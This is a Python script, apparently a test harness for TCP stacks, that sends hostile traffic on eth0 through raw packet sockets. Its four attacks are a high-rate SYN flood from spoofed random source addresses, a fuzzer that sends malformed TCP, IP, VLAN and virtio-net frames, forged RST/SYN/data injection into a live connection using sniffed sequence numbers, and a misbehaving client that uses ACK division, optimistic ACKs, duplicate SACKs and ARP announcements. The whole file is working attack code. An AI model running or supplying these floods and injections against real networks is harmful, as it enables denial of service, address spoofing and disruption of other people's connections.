"""Sends hostile packets by packet sockets on `eth0`: `hostile.py ATTACK ARGUMENTS`, with an attack of
`ATTACKS`.

The addresses in the packets may be those of other hosts. Prints the number of packets sent.
"""

import contextlib
import errno
import mmap
import os
import random
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from typing import Any

ETH_P_ALL = 3
IPV4, IPV6, ARP = 0x0800, 0x86DD, 0x0806
FIN, SYN, RST, PSH, ACK, URG = 1, 2, 4, 8, 16, 32
# linux/if_packet.h
SOL_PACKET, PACKET_TX_RING, PACKET_QDISC_BYPASS, PACKET_VNET_HDR = 263, 13, 20, 15
Ports = tuple[int, int]


def internet_checksum(data: bytes) -> int:
    """RFC 1071."""
    if len(data) % 2:
        data += b"\0"
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packed(address: str) -> bytes:
    return socket.inet_pton(socket.AF_INET6 if ":" in address else socket.AF_INET, address)


def tcp(
    src: str,
    dst: str,
    ports: Ports,
    seq: int,
    ack: int,
    flags: int,
    window: int = 500,
    options: bytes = b"",
    data: bytes = b"",
    urgent: int = 0,
    offset: int | None = None,
    reserved: int = 0,
    check: int | None = None,
) -> bytes:
    """A segment; `offset` and `check` replace the right values."""
    offset = 5 + len(options) // 4 if offset is None else offset
    head = struct.pack("!HHIIBBHHH", *ports, seq % 2**32, ack % 2**32, offset << 4 | reserved, flags, window, 0, urgent)
    whole = head + options + data
    pseudo = packed(src) + packed(dst) + struct.pack("!II", len(whole), 6)
    sum_ = internet_checksum(pseudo + whole) if check is None else check
    return whole[:16] + struct.pack("!H", sum_) + whole[18:]


def ip(src: str, dst: str, payload: bytes, protocol: int = 6, **fields: Any) -> bytes:
    """A datagram of IPv4 or IPv6; `fields` replace the right values of header fields."""
    f = fields.get
    if ":" in src:
        head = struct.pack("!IHBB", f("version", 6) << 28, f("length", len(payload)), protocol, f("ttl", 64))
        return head + packed(src) + packed(dst) + payload
    options: bytes = f("options", b"")
    ihl = f("ihl", 5 + len(options) // 4)
    length = f("length", 20 + len(options) + len(payload))
    head = struct.pack(
        "!BBHHHBBH", f("version", 4) << 4 | ihl, f("tos", 0), length, 7, f("fragment", 0), f("ttl", 64), protocol, 0
    )
    head += packed(src) + packed(dst) + options
    sum_ = f("sum", internet_checksum(head))
    return head[:10] + struct.pack("!H", sum_) + head[12:] + payload


class Wire:
    """A packet socket on `eth0`, and the Ethernet address of a neighbour."""

    def __init__(self, neighbour: str, vnet: bool = False) -> None:
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        if vnet:
            self.socket.setsockopt(SOL_PACKET, PACKET_VNET_HDR, 1)
        self.socket.bind(("eth0", 0 if vnet else ETH_P_ALL))
        self.own: bytes = self.socket.getsockname()[4]
        self.to = hardware_address(neighbour)
        self.sent = 0

    def ethernet(self, datagram: bytes, kind: int | None = None) -> bytes:
        version = datagram[0] >> 4 if datagram else 4
        kind = kind if kind is not None else IPV6 if version == 6 else IPV4
        return self.to + self.own + struct.pack("!H", kind) + datagram

    def send(self, frame: bytes) -> None:
        with contextlib.suppress(OSError):  # the kernel refuses some of the frames
            self.socket.send(frame)
            self.sent += 1


def hardware_address(neighbour: str) -> bytes:
    """The Ethernet address of a host on the link; a datagram makes the kernel resolve it."""
    family = socket.AF_INET6 if ":" in neighbour else socket.AF_INET
    for _ in range(50):
        with socket.socket(family, socket.SOCK_DGRAM) as s:
            s.sendto(b"", (neighbour, 9))
        for entry in os.popen(f"ip neigh show to {neighbour}").read().split("\n"):
            words = entry.split()
            if "lladdr" in words:
                return bytes.fromhex(words[words.index("lladdr") + 1].replace(":", ""))
        time.sleep(0.1)
    raise SystemExit(f"no Ethernet address of {neighbour}")


def flood(target: str, port: str, seconds: str) -> None:
    """SYNs from random addresses, sent from a ring in shared memory (PACKET_TX_RING)."""
    wire = Wire(target)
    count, size = 1 << 17, 128
    block = 1 << 16
    ring = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    ring.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
    ring.setsockopt(  # linux/if_packet.h
        SOL_PACKET, PACKET_TX_RING, struct.pack("IIII", block, count * size // block, size, count)
    )
    ring.bind(("eth0", 0))
    memory = mmap.mmap(ring.fileno(), count * size)
    pick = random.Random(1)
    for i in range(count):
        src = f"10.{pick.randrange(78, 250)}.{pick.randrange(256)}.{pick.randrange(1, 255)}"
        syn = tcp(
            src, target, (pick.randrange(1024, 65_536), int(port)), pick.getrandbits(32), 0, SYN, options=b"\2\4\5\xb4"
        )
        frame = wire.ethernet(ip(src, target, syn))
        # The frame follows a header of version 1: 28 bytes, aligned to 32.
        memory[i * size : i * size + size] = (bytes(8) + struct.pack("I", len(frame)) + bytes(20) + frame).ljust(
            size, b"\0"
        )
    status = memoryview(memory).cast("I")
    send_request = memoryview(struct.pack("I", 1) * 2048).cast("I")
    words, at, sent = size // 4, 0, 0
    start = time.monotonic()
    while time.monotonic() < start + float(seconds):
        view = status[at * words : (at + 2048) * words : words]
        view[:] = send_request[: len(view)]
        try:
            ring.send(b"")
        except OSError as error:
            # The device's queue is full: the next call sends the other frames.
            if error.errno != errno.ENOBUFS:
                raise
        sent += len(view)
        at = (at + 2048) % count
    print(f"{sent / (time.monotonic() - start):.0f} SYNs per second")


def broken_tcp(src: str, dst: str, ports: Ports, pick: random.Random) -> Iterator[bytes]:
    """Segments with one wrong field each."""

    def make(**fields: Any) -> bytes:
        at: dict[str, Any] = {
            "seq": pick.getrandbits(32),
            "ack": pick.getrandbits(32),
            "flags": ACK,
            "data": b"x" * 20,
            **fields,
        }
        return tcp(src, dst, ports, **at)

    yield from (make(flags=flags) for flags in range(256))
    yield from (make(reserved=reserved) for reserved in range(16))
    yield from (make(offset=offset) for offset in range(16))
    yield from (make(offset=offset, options=bytes([1]) * 40) for offset in range(16))
    yield from (make(check=check) for check in (0, 0xFFFF, pick.getrandbits(16)))
    yield from (make(window=window) for window in (0, 1, 65_535))
    yield from (make(flags=URG | ACK, urgent=urgent) for urgent in (0, 1, 20, 21, 65_535))
    yield from (make(seq=seq, ack=ack) for seq in (0, 2**31, 2**32 - 1) for ack in (0, 2**31, 2**32 - 1))
    yield from (make(data=b"x" * length) for length in (0, 1, 1459, 1460))
    # Options: every kind, with wrong lengths and with lengths beyond the header.
    for kind in range(256):
        for length in (0, 1, 2, 3, 10, 18, 34, 41, 255):
            for flags in (ACK, SYN) if kind < 40 else (ACK,):
                yield make(flags=flags, options=bytes([kind, length]) + bytes(pick.randbytes(6)), data=b"")
    yield from (make(options=bytes([1] * 7 + [kind])) for kind in range(256))
    sack = [pick.getrandbits(32) for _ in range(6)]
    for blocks in (sack[:2], sack[1::-1], [sack[0], sack[0]], sack, [0, 2**32 - 1], sack[:5]):
        body = struct.pack(f"!{len(blocks)}I", *blocks)
        yield make(options=bytes([1, 1, 5, 2 + len(body)]) + body)
    yield from (make(flags=SYN, options=bytes([3, 3, shift, 1])) for shift in range(256))
    yield from (make(flags=SYN, options=struct.pack("!BBH", 2, 4, mss)) for mss in (0, 1, 40, 65_535))


def broken_datagrams(src: str, dst: str, ports: Ports, pick: random.Random) -> Iterator[bytes]:
    """Good datagrams with broken segments, and broken datagrams with good segments."""
    segment = tcp(src, dst, ports, pick.getrandbits(32), pick.getrandbits(32), ACK, data=b"x" * 100)
    v6 = ":" in src
    for whole in broken_tcp(src, dst, ports, pick):
        yield ip(src, dst, whole)
    yield from (ip(src, dst, segment, version=version) for version in range(16))
    yield from (
        ip(src, dst, segment, length=length) for length in (0, 1, 19, 20, 39, 40, 41, 119, 121, 139, 141, 1500, 65_535)
    )
    yield from (ip(src, dst, segment, protocol=protocol) for protocol in range(256))
    yield from (ip(src, dst, segment, ttl=ttl) for ttl in (0, 1, 255))
    whole = ip(src, dst, segment)
    yield from (whole[:length] for length in range(len(whole)))
    yield from (whole + b"p" * length for length in (1, 3, 40, 1000))
    if v6:
        # Extension headers: valid, repeated, truncated, and too long.
        for kind in (0, 43, 44, 50, 51, 60, 135):
            for length in (0, 1, 4, 255):
                for following in (6, kind, 59):
                    yield ip(src, dst, bytes([following, length]) + bytes(6) + segment, protocol=kind)
            yield ip(src, dst, bytes([kind, 0]) * 20, protocol=kind)
        for mtu in (0, 1, 1279, 2**32 - 1):
            body = struct.pack("!BBHI", 2, 0, 0, mtu) + ip(
                dst, src, tcp(dst, src, ports[::-1], pick.getrandbits(32), 0, ACK)
            )
            check = internet_checksum(packed(src) + packed(dst) + struct.pack("!II", len(body), 58) + body)
            yield ip(src, dst, body[:2] + struct.pack("!H", check) + body[4:], protocol=58)
    else:
        yield from (ip(src, dst, segment, ihl=ihl) for ihl in range(16))
        yield from (ip(src, dst, segment, ihl=ihl, options=bytes(pick.randbytes(40))) for ihl in range(16))
        yield from (
            ip(src, dst, segment, fragment=fragment) for fragment in (0x2000, 0x2001, 1, 0x1FFF, 0x8000, 0xFFFF)
        )
        yield from (ip(src, dst, segment, sum=sum_) for sum_ in (0, 0xFFFF))
        yield from (
            ip(a, b, segment)
            for a, b in (
                (src, src),
                (dst, dst),
                ("255.255.255.255", dst),
                ("224.0.0.1", dst),
                ("0.0.0.0", dst),
                ("127.0.0.1", dst),
                (src, "127.0.0.1"),
            )
        )
        for mtu in (0, 1, 67, 68, 65_535):
            for cut in (0, 4, 20, 24, 28, 40):
                quoted = ip(dst, src, tcp(dst, src, ports[::-1], pick.getrandbits(32), 0, ACK))[:cut]
                body = struct.pack("!BBHHH", 3, 4, 0, 0, mtu) + quoted
                yield ip(src, dst, body[:2] + struct.pack("!H", internet_checksum(body)) + body[4:], protocol=1)
    # Random bit errors, and random bytes.
    for _ in range(2000):
        bent = bytearray(whole)
        for _ in range(pick.randrange(1, 4)):
            bent[pick.randrange(len(bent))] ^= 1 << pick.randrange(8)
        yield bytes(bent)
    yield from (bytes([0x60 if v6 else 0x45]) + pick.randbytes(pick.randrange(100)) for _ in range(500))


def malformed(src: str, dst: str, src_port: str, dst_port: str, seed: str) -> None:
    """All broken datagrams with `src` as their source, odd VLAN tags, Ethernet types and virtio-net
    headers."""
    pick = random.Random(int(seed))
    wire, ports = Wire(dst), (int(src_port), int(dst_port))
    segment = ip(src, dst, tcp(src, dst, ports, pick.getrandbits(32), 1, ACK, data=b"x" * 100))
    for i, datagram in enumerate(broken_datagrams(src, dst, ports, pick)):
        wire.send(wire.ethernet(datagram))
        if i % 50 == 49:
            time.sleep(0.005)  # so that no queue overflows
    kind = struct.unpack("!H", wire.ethernet(segment)[12:14])[0]
    for tags in ((0x8100,), (0x88A8, 0x8100), (0x8100,) * 3, (0x8100,) * 20, (0x9100,)):
        tagged = b"".join(struct.pack("!HH", tag, pick.getrandbits(16)) for tag in tags)
        whole = wire.to + wire.own + tagged + struct.pack("!H", kind) + segment
        for length in range(14, len(whole)):
            wire.send(whole[:length])
    for other in (0, 60, 1500, ARP, 0x8847, 0x8864, IPV4, IPV6, 0xFFFF):
        wire.send(wire.ethernet(segment, other))
    # Super-packets with inconsistent virtio-net headers: flags, GSO type, header and segment lengths,
    # checksum offsets.
    vnet = Wire(dst, vnet=True)
    long = ip(src, dst, tcp(src, dst, ports, pick.getrandbits(32), 1, ACK, data=b"x" * 20_000))
    for flags in (0, 1, 2):
        for gso in (0, 1, 4, 0x81, 0x84, 3, 5):
            for head in (0, 14, 54, 66, 20_000):
                for size in (0, 1, 10, 1448, 65_535):
                    for start, offset in ((34, 16), (54, 16), (0, 0), (14, 10), (60_000, 16)):
                        vnet.send(struct.pack("<BBHHHH", flags, gso, head, size, start, offset) + vnet.ethernet(long))
    print(wire.sent, vnet.sent)


class Watch:
    """Follows the sequence numbers of a connection on `eth0`."""

    def __init__(self, src: str, dst: str, ports: Ports) -> None:
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_ALL))
        self.socket.bind(("eth0", ETH_P_ALL))
        self.socket.setblocking(False)
        self.want = packed(src) + packed(dst) + struct.pack("!HH", *ports)
        self.at: tuple[int, int] | None = None

    def look(self) -> tuple[int, int] | None:
        """The sequence number after the last segment, and its acknowledgment number."""
        for _ in range(4000):
            try:
                data = self.socket.recv(200)
            except BlockingIOError:
                break
            if len(data) >= 40 and data[12:20] + data[20:24] == self.want and data[9] == 6:
                seq, ack = struct.unpack("!II", data[24:32])
                length = struct.unpack("!H", data[2:4])[0] - 20 - (data[32] >> 4) * 4
                # The connection's own segments have timestamps, the forged ones have none.
                if data[32] >> 4 > 5 and not data[33] & (SYN | RST):
                    self.at = (seq + length, ack)
        return self.at


def inject(src: str, dst: str, src_port: str, dst_port: str, seconds: str) -> None:
    """Forged segments with `src` as their source that an endpoint has to refuse (RFC 5961): random sequence
    numbers, and numbers in the window that are not the next one."""
    wire, ports = Wire(dst), (int(src_port), int(dst_port))
    watch, pick = Watch(src, dst, ports), random.Random(1)
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        at = watch.look()
        for _ in range(5):
            flags = pick.choice((RST, RST | ACK, SYN, SYN | ACK, FIN | ACK, ACK, PSH | ACK))
            # Not near the right number, which a blind attacker does not know.
            seq = at[0] + pick.randrange(1 << 28, 15 << 28) if at else pick.getrandbits(32)
            wire.send(wire.ethernet(ip(src, dst, tcp(src, dst, ports, seq, pick.getrandbits(32), flags, data=b"evil"))))
        if at:
            seq, ack = at
            for ahead in (3_001, 30_011):
                for flags, acked, data in (
                    (RST, 0, b""),
                    (RST | ACK, ack, b""),
                    (SYN, 0, b""),
                    (SYN | ACK, ack, b""),
                    (ACK | PSH, ack + 900_000_000, b"evil" * 300),
                    (ACK | PSH, ack - 900_000_000, b"evil" * 300),
                    (FIN | ACK, ack + 900_000_000, b""),
                    (ACK, ack + 900_000_000, b""),
                    (ACK, ack - 900_000_000, b""),
                ):
                    wire.send(wire.ethernet(ip(src, dst, tcp(src, dst, ports, seq + ahead, acked, flags, data=data))))
        time.sleep(0.002)
    print(wire.sent, "in its window" if watch.at else "blind only")


def misbehave(own: str, target: str, port: str, how: str, seconds: str) -> None:
    """A TCP client with an address of its own, unknown to the kernel, that downloads and misbehaves:

    - divide: sends fifty ACKs for each segment (ACK division)
    - optimistic: acknowledges data that it has not received
    - duplicate: sends duplicate ACKs with random SACK blocks
    - silent: acknowledges nothing
    """
    wire, pick = Wire(target), random.Random(1)
    end = time.monotonic() + float(seconds)
    ports, isn, mac = (pick.randrange(20_000, 60_000), int(port)), pick.getrandbits(32), wire.own
    wire.socket.settimeout(0.2)
    syn = tcp(own, target, ports, isn, 0, SYN, 65_535, options=b"\2\4\5\xb4\1\3\3\x0e\4\2\1\1")
    announce = (
        b"\xff" * 6
        + mac
        + struct.pack("!HHHBBH", ARP, 1, IPV4, 6, 4, 2)
        + mac
        + packed(own)
        + bytes(6)
        + packed(target)
    )
    wire.send(announce)
    wire.send(wire.ethernet(ip(own, target, syn)))
    sent, got, acks, ahead = isn + 1, 0, 0, 0
    expected: int | None = None

    def answer(acked: int, options: bytes = b"", data: bytes = b"", flags: int = ACK) -> None:
        nonlocal acks
        acks += 1
        wire.send(wire.ethernet(ip(own, target, tcp(own, target, ports, sent, acked, flags, 65_535, options, data))))

    while time.monotonic() < end:
        try:
            frame = wire.socket.recv(70_000)
        except TimeoutError:
            if how == "optimistic" and expected is not None:
                answer(expected)
            continue
        if frame[12:14] == b"\x08\x06" and frame[20:22] == b"\0\1" and frame[38:42] == packed(own):
            reply = frame[6:12] + mac + frame[12:20] + b"\0\2" + mac + packed(own) + frame[22:32]
            wire.send(reply)
        if frame[12:14] != b"\x08\0" or frame[26:34] != packed(target) + packed(own) or frame[23] != 6:
            continue
        seq, _ack, offset, flags = struct.unpack("!IIBB", frame[38:48])
        length = struct.unpack("!H", frame[16:18])[0] - 20 - (offset >> 4) * 4
        if flags & RST:
            break
        if flags & SYN:
            expected = seq + 1 & 0xFFFFFFFF
            answer(expected)
            question = f"get hostile {1 << 26}\n".encode()
            answer(expected, data=question, flags=ACK | PSH)
            sent += len(question)
            continue
        if expected is None:
            continue
        if how == "optimistic" and length:
            # Ahead of the received data: mostly data in flight, every tenth time data that were never sent.
            got += length
            ahead += 1
            expected = seq + length & 0xFFFFFFFF
            answer(expected + (10_000_000 if ahead % 10 == 0 else 4 * length))
            continue
        if length and seq == expected and how != "silent":
            if how == "divide":
                for part in range(50):
                    answer(seq + max(1, length * part // 50))
            expected = expected + length & 0xFFFFFFFF
            got += length
        if how == "duplicate":
            for _ in range(20):
                a, b = pick.getrandbits(16), pick.getrandbits(16)
                answer(
                    expected,
                    options=bytes([1, 1, 5, 10]) + struct.pack("!II", *((expected + x) % 2**32 for x in (a, b))),
                )
            if pick.random() < 0.5:
                answer(expected)
        elif how != "silent":
            answer(expected)
    print(f"{how}: {acks} packets sent, {got} bytes in order")


ATTACKS: dict[str, Callable[..., None]] = {
    "flood": flood,
    "malformed": malformed,
    "inject": inject,
    "misbehave": misbehave,
}


if __name__ == "__main__":
    ATTACKS[sys.argv[1]](*sys.argv[2:])
